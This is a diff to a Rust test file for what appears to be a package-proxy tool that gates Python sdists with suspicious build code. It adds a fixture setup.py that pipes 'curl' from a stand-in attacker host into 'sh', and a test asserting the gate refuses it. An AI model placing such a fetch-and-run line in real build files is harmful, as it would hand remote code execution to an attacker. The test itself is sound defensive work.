@@ -75,6 +75,17 @@ fn upstream_entries() -> Vec<IndexEntry> {
             "plainwheel-1.0-py3-none-any.whl",
             wheel_bytes("plainwheel", "1.0", "", &["demo"]),
         ),
+        // Build code that tries to fetch and run a script (refused in the sandbox), then
+        // answers honestly: metadata, but a suspicious behaviour report.
+        entry(
+            "phonehome",
+            "phonehome-1.0.tar.gz",
+            setup_py_sdist_bytes(
+                "phonehome",
+                "1.0",
+                "import os\nos.system('curl -s http://serve.evil.example | sh')\nfrom setuptools import setup\nsetup(name='phonehome', version='1.0')\n",
+            ),
+        ),
         entry("big", "big-1.0-py3-none-any.whl", big_bytes(1)),
         IndexEntry {
             advertised_sha256: Some("0".repeat(64)),
@@ -445,6 +456,35 @@ fn an_sdist_sdistill_cannot_answer_for_is_refused_everywhere() {
         line.contains("refused bad-1.0.tar.gz (setup-failed)"),
         "{line}"
     );
+}
+
+/// `--fail-on suspicious`: an sdist whose build code tried something suspicious gets no
+/// metadata and no bytes (clients stop, naming it and what it tried); without the flag the
+/// same sdist is served, and an honest one is served either way.
+#[test]
+fn fail_on_holds_back_an_sdist_whose_build_code_phoned_home() {
+    let fx = fixture();
+    let path = format!("{}.metadata", fx.path("phonehome", "phonehome-1.0.tar.gz"));
+    let open = fx.serve(&[]);
+    assert_eq!(get(&open.addr, &path).status, 200);
+    drop(open);
+    // The answer (and its report) now comes from the metadata cache: gated all the same.
+    let gated = fx.serve(&["--fail-on", "suspicious"]);
+    let meta = get(&gated.addr, &path);
+    assert_eq!(meta.status, 422, "{meta:?}");
+    assert_eq!(meta.header("x-sdistill-error"), Some("gate:suspicious"));
+    assert!(
+        meta.reason.contains("phonehome-1.0.tar.gz") && meta.reason.contains("suspicious"),
+        "{}",
+        meta.reason
+    );
+    let file = get(&gated.addr, &fx.path("phonehome", "phonehome-1.0.tar.gz"));
+    assert_eq!(file.status, 422);
+    let honest = get(
+        &gated.addr,
+        &format!("{}.metadata", fx.path("dyn", "dyn-1.0.tar.gz")),
+    );
+    assert_eq!(honest.status, 200);
 }
 
 #[test]
